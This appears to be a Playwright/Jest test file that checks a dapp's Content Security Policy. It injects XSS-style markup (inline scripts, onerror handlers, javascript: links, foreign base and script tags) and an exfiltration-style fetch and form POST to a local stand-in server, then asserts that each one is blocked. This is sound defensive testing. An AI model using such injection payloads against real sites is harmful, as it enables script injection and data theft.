import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { buildDapp, type RunningDapp, startDapp } from '../../scripts/start/dapp';
import { launchBrowser } from '../stage/launchBrowser';
import { reachedFromOutside } from '../stage/reachedFromOutside';

let dapp: RunningDapp;
let browser: Browser;
/** A foreign site: it serves a script, accepts anything sent to it, and frames the dapp. */
let foreign: Server;
let foreignUrl = '';
const asked: string[] = [];

beforeAll(async () => {
  foreign = createServer((request, response) => {
    asked.push(request.url ?? '');
    const isScript = request.url === '/script.js';
    response.writeHead(200, {
      'content-type': isScript ? 'text/javascript' : 'text/html',
      'access-control-allow-origin': '*',
    });
    response.end(isScript ? 'window.ran = "remote"' : `<iframe src="${dapp.url}"></iframe>`);
  });
  await once(foreign.listen(0, '127.0.0.1'), 'listening');
  foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  await buildDapp();
  [dapp, browser] = await Promise.all([startDapp({ walletUrl: 'none' }), launchBrowser()]);
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await dapp?.stop();
  foreign?.close();
  foreign?.closeAllConnections();
});

/** Loads the dapp's page and records what its policy blocks. */
async function openDapp(): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await page.goto(dapp.url);
  await page.locator('main').first().waitFor();
  await page.evaluate(() => {
    const blocked: string[] = [];
    Object.assign(window, { blocked, ran: null });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      blocked.push(effectiveDirective);
    });
  });
  return page;
}

/** Injects markup into the page and waits until it ran or the policy blocked it. */
async function inject(html: string): Promise<{ ran: unknown; blocked: string[] }> {
  const page = await openDapp();
  await page.evaluate((markup) => {
    const range = document.createRange();
    // Unlike with innerHTML, scripts inserted this way run if the policy allows them.
    document.body.append(range.createContextualFragment(markup));
    document.querySelector<HTMLElement>('#injected')?.click();
  }, html);
  return outcomeOf(page);
}

async function outcomeOf(page: Page): Promise<{ ran: unknown; blocked: string[] }> {
  type Noted = { ran: unknown; blocked: string[] };
  const noted = () => {
    const { ran, blocked } = window as unknown as Noted; // made by openDapp
    return { ran, blocked };
  };
  await page.waitForFunction(() => {
    const { ran, blocked } = window as unknown as Noted; // made by openDapp
    return ran !== null || blocked.length > 0;
  });
  const outcome = await page.evaluate(noted);
  await page.context().close();
  return outcome;
}

// @promise T36.1
it('listens on this machine alone', async () => {
  expect(await reachedFromOutside(dapp.url)).toEqual([]);
});

describe('the page of the dapp', () => {
  it('loads under its policy without a breach', async () => {
    const page = await openDapp();
    const errors: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    await page.reload();
    await page.locator('main').first().waitFor();
    expect(errors.filter((text) => text.includes('Content Security Policy'))).toEqual([]);
    await page.context().close();
  });

  // @promise T35.1
  it.each([
    ['an inline script', '<script>window.ran = "inline"</script>', 'script-src-elem'],
    ['a handler in markup', '<img src="data:," onerror="ran = 1">', 'script-src-attr'],
    [
      'a link that is a script',
      '<a id="injected" href="javascript:void(window.ran = 1)">x</a>',
      'script-src-elem',
    ],
    ['a foreign base', '<base href="https://elsewhere.example/">', 'base-uri'],
    ['a plugin', '<object data="data:text/html,x"></object>', 'object-src'],
  ])('does not run or take %s that was injected', async (_, html, directive) => {
    expect(await inject(html)).toEqual({ ran: null, blocked: [directive] });
  });

  // @promise T35.1
  it('runs no script of another site, and does not even ask for it', async () => {
    const outcome = await inject(`<script src="${foreignUrl}/script.js"></script>`);
    expect(outcome).toEqual({ ran: null, blocked: ['script-src-elem'] });
    expect(asked).not.toContain('/script.js');
  });

  // @promise T35.1
  it('runs no text as code', async () => {
    const page = await openDapp();
    await page.evaluate(() => {
      setTimeout('window.ran = "text"', 0);
    });
    expect(await outcomeOf(page)).toEqual({ ran: null, blocked: ['script-src'] });
  });

  // @promise T35.1
  it('sends nothing to another site', async () => {
    const page = await openDapp();
    await page.evaluate((url) => {
      fetch(`${url}/taken`, { method: 'POST', body: 'a secret' }).then(
        () => Object.assign(window, { ran: 'sent' }),
        () => undefined,
      );
    }, foreignUrl);
    expect(await outcomeOf(page)).toEqual({ ran: null, blocked: ['connect-src'] });
    expect(asked).not.toContain('/taken');
  });

  it('sends no form', async () => {
    const html = `<form action="${foreignUrl}/form" method="post"><button id="injected">x</button></form>`;
    expect(await inject(html)).toEqual({ ran: null, blocked: ['form-action'] });
    expect(asked).not.toContain('/form');
  });

  // @promise T35.1
  it('opens in no frame of another page', async () => {
    const page = await (await browser.newContext()).newPage();
    await page.goto(`${foreignUrl}/frame`);
    const [, frame] = page.frames();
    expect(await frame?.locator('main').count()).toBe(0);
    expect(await frame?.evaluate(() => document.body.textContent)).not.toContain('Xnet');
    expect(frame?.url()).toBe('chrome-error://chromewebdata/');
    await page.context().close();
  });
});
